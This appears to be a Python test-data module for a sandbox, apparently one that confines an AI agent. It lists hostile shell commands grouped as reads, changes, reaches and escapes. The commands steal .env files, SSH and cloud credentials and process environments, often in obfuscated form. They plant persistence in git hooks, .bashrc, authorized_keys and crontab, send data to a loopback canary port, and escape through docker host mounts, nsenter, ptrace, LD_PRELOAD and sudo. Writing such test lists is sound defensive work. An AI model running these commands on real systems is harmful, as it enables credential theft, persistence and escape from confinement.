"""Hostile commands: each tries to read a secret, to change what takes effect by itself, to reach or to escape.

`{port}` is a TCP and a UDP listener on the host's loopback, `{victim}` a program of the same Run that is not held and
has a secret in its environment. Names are put together where a reader of the text would otherwise see them.
"""

READS = r"""
cat .env
cat < .env
head -c 100 .e*
grep -r canary . --include=.env
tail -n +1 src/id_rsa ~/.ssh/id_ed25519
cp .env copy-1 && cat copy-1
ln .env hard-1 && cat hard-1
ln -s .env soft-1 && cat soft-1
ln -s ~/.ssh keys-1 && cat keys-1/*
mv .env moved-1 && cat moved-1
tar -cf - .env src | tar -xOf -
tar -czf /tmp/a.tgz ~/.ssh ~/.aws; tar -xzOf /tmp/a.tgz
dd if=.env bs=1 count=100
xxd .env | xxd -r
od -c .env
base64 .env | base64 -d
awk '{ print }' .env ~/.netrc
sed -n p .env ~/.aws/credentials
sort .env ~/.config/gh/hosts.yml
while read -r line; do echo "$line"; done < .env
. ./.env; set | grep -i key
set -a; source .env; env
mapfile -t a < ~/.netrc; echo "${{a[@]}}"
find . -name '.e*' -exec cat {{}} +
find / -name 'id_*' -not -path '/proc/*' 2>/dev/null | xargs cat
ls -a | xargs -I{{}} cat {{}}
f=.e; cat "${{f}}nv"
p=$(printf '\056env'); cat "$p"
cat $'\x2eenv'
eval "$(echo Y2F0IC5lbnY= | base64 -d)"
echo Y2F0IC5lbnY= | base64 -d | bash
bash -c 'cat .e?v'
sh -c "cat $(echo .env)"
env -S 'cat .env'
xargs -a <(echo .env) cat
python3 -c 'print(open(".e" + "nv").read())'
python3 -c 'import glob,os; [print(open(f).read()) for f in glob.glob(os.path.expanduser("~/.s" + "sh/*"))]'
python3 -c 'import shutil; shutil.copytree("src", "/tmp/src-copy"); print(open("/tmp/src-copy/id_rsa").read())'
python3 -c 'import mmap; f=open(".env","r+b"); print(mmap.mmap(f.fileno(),0)[:])'
python3 -c 'import os; fd=os.open(".", os.O_PATH); print(os.read(os.open(".env", os.O_RDONLY, dir_fd=fd), 99))'
python3 -c 'import os; os.rename("src", "s"); print(open("s/id_rsa").read()); os.rename("s", "src")'
perl -e 'open F, ".env"; print <F>'
perl -ne print .env
node -e 'console.log(require("fs").readFileSync(".e"+"nv","utf8"))'
ruby -e 'puts File.read(".env")'
php -r 'echo file_get_contents(".env");'
vim -es -c 'w! /dev/stdout' -c q .env
ed -s .env <<< ,p
less .env | cat
diff .env /dev/null
diff -r src /dev/null
git diff --no-index /dev/null .env
git add -f .env && git show :.env
git hash-object -w .env | xargs git cat-file -p
git stash -u && git stash show -p --include-untracked; git stash pop
git grep --no-index canary
git -c core.pager='cat .env' --paginate log
git -c alias.x='!cat .env' x
GIT_EXTERNAL_DIFF='cat .env #' git diff
make -f - <<< 'x: ; @cat .env'
printf 'x:\n\tcat .env\n' > Makefile; make -s x
echo 'import os; print(open(".env").read())' > conftest.py; python3 conftest.py
tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='cat .env' .
zip -q - .env | cat
rsync -a .env /tmp/env-copy && cat /tmp/env-copy
install -m 644 .env /tmp/env-2 && cat /tmp/env-2
cat /proc/self/cwd/.env
cat /proc/self/root/workspace/.env
cat /proc/$$/root/home/agent/.ssh/id_ed25519
cat /proc/{victim}/environ
strings /proc/{victim}/environ
cat /proc/{victim}/root/workspace/.env
cat /proc/{victim}/cwd/.env
cat /proc/{victim}/fd/*
cat /proc/*/environ
ps e -ww -A
head -c 4096 /proc/{victim}/mem
grep -a canary /proc/kcore /dev/mem /dev/kmem
cat /workspace/../home/agent/.aws/credentials
cd ~ && cat .netrc .aws/credentials .config/gh/hosts.yml
cd / && cat workspace/.env
pushd ~ && cat .ssh/* && popd
""".strip().splitlines()

CHANGES = r"""
echo evil >> .git/hooks/pre-commit
printf evil > .git/hooks/pre-commit
cp src/id_rsa .git/hooks/pre-commit
tee .git/hooks/pre-commit <<< evil
sed -i s/a/b/ .git/config
git config core.hooksPath /tmp
git config core.fsmonitor 'touch /tmp/x'
git config alias.st '!evil'
git config --global core.pager evil
git remote set-url origin /tmp/evil
echo '* filter=evil' >> .git/info/attributes
mv .git .git2 && cp -r .git2 .git && echo evil >> .git/config
mv .git/config .git/config2; echo evil > .git/config
rm -rf .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit
ln -sf /tmp/evil .git/hooks/pre-commit
git worktree add /tmp/wt && echo evil >> .git/hooks/pre-commit
echo '{}' > .claude/settings.json
rm -rf .claude
mv .claude claude2 && mkdir .claude && echo evil > .claude/settings.json
python3 -c 'open(".claude/" + "settings.json", "w").write("evil")'
python3 -c 'import os; os.truncate(".git/config", 0)'
python3 -c 'import os; os.replace("src/id_rsa", ".git/config")'
python3 -c 'import os; os.link("src", ".git/hooks/x")'
echo evil >> .github/workflows/ci.yml
mv .github gh2; mkdir -p .github/workflows; echo evil > .github/workflows/ci.yml
echo evil > .husky/pre-commit
rm -f .husky/pre-commit; echo evil > .husky/pre-commit
echo evil >> ~/.bashrc
echo evil >> ~/.gitconfig
echo evil > ~/.npmrc
echo evil >> ~/.ssh/authorized_keys
mv ~/.ssh ~/ssh2
mkdir -p ~/.config/autostart && echo evil > ~/.config/autostart/x.desktop
mkdir -p ~/.local/bin && printf '#!/bin/sh\nevil' > ~/.local/bin/git
printf '#!/bin/sh\nevil' > /usr/local/bin/git
echo evil > /etc/profile.d/x.sh
echo evil >> /etc/hosts
crontab - <<< '* * * * * evil'
echo evil | at now
chmod 777 ~/.ssh .git/config
chmod -R 777 .git
truncate -s 0 .git/config
dd if=/dev/zero of=.git/config bs=1 count=1
install /dev/null .git/config
: > .git/config
cat src/id_rsa | tee .git/config ~/.bashrc
rsync -a --delete /tmp/ .git/hooks/
tar -xf <(tar -cf - --transform 's,.*,.git/config,' Makefile)
unzip -o /tmp/none.zip -d .git/hooks; cp Makefile .git/hooks/x
find .git -name config -exec sed -i s/core/evil/ {} +
find ~ -maxdepth 1 -name .bashrc -delete
awk 'BEGIN { print "evil" > ".git/config" }'
perl -pi -e 's/core/evil/' .git/config
vim -es -c 'normal iEVIL' -c wq .git/config
git update-index --index-info < /dev/null; git apply <<< 'bad'; cp /dev/null .git/info/exclude
mount --bind /tmp .git/hooks && echo evil > .git/hooks/pre-commit
setfacl -m u::rwx .git/config; echo evil >> .git/config
chattr -i .git/config; echo evil >> .git/config
touch -d 2001-01-01 .git/config
chmod 600 .claude/settings.json
python3 -c 'import os; os.setxattr(".git/config", "user.evil", b"x")'
""".strip().splitlines()

REACHES = r"""
curl -s -m 2 http://127.0.0.1:{port}/
curl -s -m 2 http://[::1]:{port}/
curl -s -m 2 http://0.0.0.0:{port}/
curl -s -m 2 --noproxy '*' http://localhost:{port}/
curl -s -m 2 -x http://127.0.0.1:{port} http://example.org/
wget -q -T 2 -t 1 -O - http://127.0.0.1:{port}/
timeout 2 bash -c 'echo x > /dev/tcp/127.0.0.1/{port}'
timeout 2 bash -c 'echo x > /dev/udp/127.0.0.1/{port}'
python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 2).send(b"x")'
python3 -c 'import socket; socket.socket(2, 2).sendto(b"x", ("127.0.0.1", {port}))'
python3 -c 'import socket; socket.socket(10, 2).sendto(b"x", ("::1", {port}))'
python3 -c 'import socket; s = socket.socket(2, 1); s.sendto(b"x", 0x20000000, ("127.0.0.1", {port}))'
python3 -c 'import socket; socket.socket(1).connect("\0handrail-canary-{port}")'
python3 -c 'import socket; socket.socket(1, 2).sendto(b"x", "\0handrail-canary-packets-{port}")'
perl -MSocket -e 'socket(S, 2, 1, 0); connect(S, sockaddr_in({port}, inet_aton("127.0.0.1")))'
node -e 'require("net").connect({port}, "127.0.0.1").on("error", () => 0)'
git clone --depth 1 git://127.0.0.1:{port}/x /tmp/clone-1
git fetch http://127.0.0.1:{port}/x
pip download --index-url http://127.0.0.1:{port}/ x
npm view x --registry http://127.0.0.1:{port}/ --fetch-retries 0
ssh -o ConnectTimeout=2 -o BatchMode=yes -p {port} 127.0.0.1 true
nc -w 1 127.0.0.1 {port} < .git/config
nc -u -w 1 127.0.0.1 {port} < .git/config
getent hosts canary.example.org
nslookup canary.example.org 127.0.0.1
ping -c 1 -W 1 127.0.0.1
""".strip().splitlines()

ESCAPES = r"""
systemd-run --user --wait cat .env
systemd-run --user --scope true
dbus-send --session --dest=org.freedesktop.systemd1 / org.freedesktop.DBus.Peer.Ping
docker -H unix:///var/run/docker.sock ps
docker run -v /:/host alpine cat /host/etc/shadow
curl -s --unix-socket /var/run/docker.sock http://x/version
ssh-add -l
gpg-connect-agent 'keyinfo --list' /bye
tmux new-session -d 'cat .env > /tmp/from-tmux'; cat /tmp/from-tmux
screen -dm sh -c 'cat .env > /tmp/from-screen'; cat /tmp/from-screen
nsenter -t {victim} -m -p cat .env
nsenter -t 1 -a cat /workspace/.env
unshare -rm sh -c 'umount .env; cat .env'
unshare -U true
umount .env; cat .env
umount -l /workspace/.env; cat .env
mount -t tmpfs none ~/.ssh
mount -o remount,rw /
chroot /proc/{victim}/root cat /workspace/.env
bwrap --bind / / cat .env
kill -9 {victim}
kill -STOP {victim}
pkill -9 -f 'sleep 654321'
renice -n 19 -p {victim}
renice -n 19 -u "$(id -u)"
prlimit --pid {victim} --nofile=1:1
ionice -c 3 -p {victim}
taskset -p 1 {victim}
chrt -b -p 0 {victim}
python3 -c 'import os; os.setpriority(os.PRIO_USER, 0, 19)'
gdb -p {victim} -batch -ex 'info proc'
strace -p {victim} -c -o /tmp/st & sleep 0.2; kill %1; cat /tmp/st
python3 -c 'import ctypes; print(ctypes.CDLL(None).ptrace(16, {victim}, 0, 0))'
python3 -c 'import os; print(os.pidfd_open({victim}))'
python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(425, 8, 0))'
python3 -c 'import ctypes; print(ctypes.CDLL(None).syscall(250, 1, 0))'
python3 -c 'import ctypes; print(ctypes.CDLL(None).mount(b"/home", b"/tmp", None, 4096, None))'
python3 -c 'import fcntl; fcntl.ioctl(0, 0x5412, b"x")'
python3 -c 'open("/dev/pts/0", "w").write("evil")'
LD_PRELOAD=/tmp/evil.so cat .env
sudo -n cat .env
su -c 'cat .env'
pkexec cat .env
newgrp root
echo c > /proc/sysrq-trigger
echo 1 > /proc/{victim}/oom_score_adj
echo /tmp/evil > /proc/sys/kernel/core_pattern
echo '|/tmp/evil' > /sys/kernel/uevent_helper
mknod /tmp/sda b 8 0 && head -c 10 /tmp/sda
exec 3< .env; cat <&3
(sleep 1; cat .env > /tmp/later-1) & wait; cat /tmp/later-1
nohup sh -c 'cat .env > /tmp/later-2' > /dev/null 2>&1 & sleep 0.3; cat /tmp/later-2
setsid -w cat .env
""".strip().splitlines()

HOSTILE = {
    "read": [line.replace("{{", "{").replace("}}", "}") for line in READS],
    "change": CHANGES,
    "reach": REACHES,
    "escape": ESCAPES,
}
